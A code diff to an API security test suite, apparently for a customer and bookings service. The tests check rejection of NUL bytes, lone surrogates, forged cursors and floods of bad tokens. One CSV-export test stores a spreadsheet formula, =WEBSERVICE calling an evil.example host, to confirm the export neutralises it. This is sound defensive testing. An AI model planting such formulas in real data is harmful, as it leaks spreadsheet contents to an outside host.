@@ -18,14 +18,14 @@ beforeAll(async () => {
 afterAll(() => t?.close());
 
 const verify = async () =>
-  (await t.app.inject({ url: '/v1/audit/verify', headers: { authorization: `Bearer ${await t.token('eve', 'auditor')}` } })).json();
+  (await t.http({ url: '/v1/audit/verify', headers: { authorization: `Bearer ${await t.token('eve', 'auditor')}` } })).json();
 
 describe('hostile ids', () => {
   it('a lone surrogate or NUL in an id cannot break the chain or fail other requests', async () => {
     const token = await t.token('mallory', 'agent');
     const gql = await graphql(t.app, token, 'query($i: ID!) { customer(id: $i) { id } }', { i: '\ud800' });
     expect(gql.body.errors?.[0].extensions.code).toBe('NOT_FOUND');
-    const nul = await t.app.inject({ url: '/v1/customers/%00', headers: { authorization: `Bearer ${token}` } });
+    const nul = await t.http({ url: '/v1/customers/%00', headers: { authorization: `Bearer ${token}` } });
     expect(nul.statusCode).toBe(404);
     const long = await graphql(t.app, token, 'query($i: ID!) { customer(id: $i) { id } }', { i: 'x'.repeat(5000) });
     expect(long.body.errors?.[0].extensions.code).toBe('NOT_FOUND');
@@ -38,14 +38,14 @@ describe('hostile ids', () => {
 describe('CSV export', () => {
   it('keeps a formula typed into a field as text', async () => {
     const { rows } = await t.database.query(`select id from customers where full_name = 'Luca Bernardi'`);
-    const patched = await t.app.inject({
+    const patched = await t.http({
       method: 'PATCH',
       url: `/v1/customers/${rows[0].id}`,
       headers: { authorization: `Bearer ${await t.token('root', 'admin')}` },
       payload: { notes: '=WEBSERVICE("https://evil.example/?"&E2)' },
     });
     expect(patched.statusCode).toBe(200);
-    const csv = await t.app.inject({ url: '/v1/customers/export?format=csv', headers: { authorization: `Bearer ${await t.token('root', 'admin')}` } });
+    const csv = await t.http({ url: '/v1/customers/export?format=csv', headers: { authorization: `Bearer ${await t.token('root', 'admin')}` } });
     expect(csv.body).toContain(`"'=WEBSERVICE(""https://evil.example/?""&E2)"`);
     expect(csv.body).not.toMatch(/(^|,)=WEBSERVICE/m);
     expect(createHash('sha256').update(csv.rawPayload).digest('hex')).toMatch(/^[0-9a-f]{64}$/);
@@ -67,11 +67,11 @@ describe('NUL characters and forged cursors', () => {
   it('are a 400, never a database error, through REST and GraphQL', async () => {
     const admin = { authorization: `Bearer ${await t.token('root', 'admin')}` };
     const { rows } = await t.database.query(`select id from customers where full_name = 'Giulia Marchetti'`);
-    const rest = await t.app.inject({ method: 'PATCH', url: `/v1/customers/${rows[0].id}`, headers: admin, payload: { notes: 'a\u0000b' } });
+    const rest = await t.http({ method: 'PATCH', url: `/v1/customers/${rows[0].id}`, headers: admin, payload: { notes: 'a\u0000b' } });
     expect(rest.statusCode).toBe(400);
     const gql = await graphql(t.app, await t.token('root', 'admin'), 'mutation($id: ID!, $n: String) { updateCustomer(id: $id, input: { notes: $n }) { id } }', { id: rows[0].id, n: 'a\u0000b' });
     expect(gql.body.errors?.[0].extensions.code).toBe('VALIDATION_FAILED');
-    const upload = await t.app.inject({
+    const upload = await t.http({
       method: 'POST',
       url: `/v1/customers/${rows[0].id}/documents`,
       headers: { ...admin, 'content-type': 'application/pdf', 'x-document-title': 'a%00b', 'x-document-category': 'invoice' },
@@ -79,7 +79,7 @@ describe('NUL characters and forged cursors', () => {
     });
     expect(upload.statusCode).toBe(400);
     const cursor = Buffer.from(JSON.stringify({ k: 'startsAt', v: 'x', id: '00000000-0000-4000-8000-000000000000' })).toString('base64url');
-    const bookings = await t.app.inject({ url: `/v1/bookings?cursor=${cursor}`, headers: admin });
+    const bookings = await t.http({ url: `/v1/bookings?cursor=${cursor}`, headers: admin });
     expect(bookings.statusCode).toBe(400);
     expect(bookings.json().code).toBe('INVALID_CURSOR');
   });
@@ -90,7 +90,7 @@ describe('a flood of bad tokens', () => {
     const before = (await t.database.query(`select count(*)::int as n from audit_events where action = 'authenticate'`)).rows[0].n;
     const statuses: number[] = [];
     for (let i = 0; i < 110; i++) {
-      statuses.push((await t.app.inject({ url: '/v1/customers', headers: { authorization: `Bearer not-a-token-${i}` } })).statusCode);
+      statuses.push((await t.http({ url: '/v1/customers', headers: { authorization: `Bearer not-a-token-${i}` } })).statusCode);
     }
     const after = (await t.database.query(`select count(*)::int as n from audit_events where action = 'authenticate'`)).rows[0].n;
     expect(after - before).toBe(100);
